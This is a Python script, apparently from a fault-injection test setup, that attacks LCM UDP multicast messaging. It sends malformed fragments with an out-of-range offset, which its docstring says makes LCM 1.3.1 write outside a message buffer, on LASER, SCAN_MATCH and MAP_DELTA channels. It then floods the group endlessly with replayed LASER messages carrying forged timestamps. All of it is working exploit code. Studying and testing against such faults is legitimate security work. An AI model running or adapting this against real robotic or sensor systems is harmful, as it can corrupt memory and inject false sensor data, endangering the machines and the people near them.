"""Sends packets of LCM's UDP multicast that no honest process sends, until it is ended.

usage: attack.py PORT TTL COUNT FILE
COUNT times the two fragments that LCM 1.3.1 writes outside of their message, on three channels; then, unless
"fragments_only" follows, again and again the LASER messages of an LCM log, with utimes of their own.
"""

import pathlib
import socket
import struct
import sys
import time

from faults import GROUP, read_log, with_utime

LONG_MAGIC, SHORT_MAGIC = 0x4C433033, 0x4C433032


def fragments(number):
    for channel in (b"LASER\0", b"SCAN_MATCH\0", b"MAP_DELTA\0"):
        yield struct.pack(">IIIIHH", LONG_MAGIC, number, 1000, 0, 0, 2) + channel + 500 * b"x"
        yield struct.pack(">IIIIHH", LONG_MAGIC, number, 1000, 0xFFFFFF00, 1, 2) + 512 * b"x"


def main():
    port, ttl, count, log = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), pathlib.Path(sys.argv[4])
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, ttl)
    print("attack: ready", flush=True)
    for number in range(count):
        for packet in fragments(number):
            sender.sendto(packet, (GROUP, port))
        time.sleep(0.0005)
    print("attack: sent", flush=True)
    if "fragments_only" in sys.argv:
        return
    while True:
        for number, message in enumerate(read_log(log)):
            packet = struct.pack(">II", SHORT_MAGIC, number) + b"LASER\0" + with_utime(message, 10**15 + number)
            sender.sendto(packet, (GROUP, port))
            time.sleep(0.002)


main()
